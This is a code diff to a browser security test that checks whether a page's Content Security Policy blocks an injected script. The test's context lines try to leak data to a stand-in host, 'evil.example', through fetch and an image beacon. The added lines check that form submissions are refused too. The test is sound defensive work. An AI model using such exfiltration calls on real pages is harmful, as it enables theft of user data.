@@ -149,9 +149,15 @@ test.describe('a script that found its way into a page', () => {
       await violated
       const sent = await fetch('https://evil.example/?leak', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')
       const picture = await new Promise((done) => Object.assign(new Image(), { onload: () => done('sent'), onerror: () => done('refused'), src: 'https://evil.example/p.gif' }))
-      return { ran: (window as unknown as { ran?: number }).ran ?? null, sent, picture }
+      const broken = new Promise<string>((done) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => effectiveDirective === 'form-action' && done(effectiveDirective))
+        setTimeout(done, 10_000, 'nothing was refused')
+      })
+      const form = document.querySelector<HTMLFormElement>('#out')!
+      form.submit()
+      return { form: await broken, ran: (window as unknown as { ran?: number }).ran ?? null, sent, picture }
     })
-    expect(ran).toEqual({ ran: null, sent: 'refused', picture: 'refused' })
+    expect(ran).toEqual({ form: 'form-action', ran: null, sent: 'refused', picture: 'refused' })
   })
 })
 
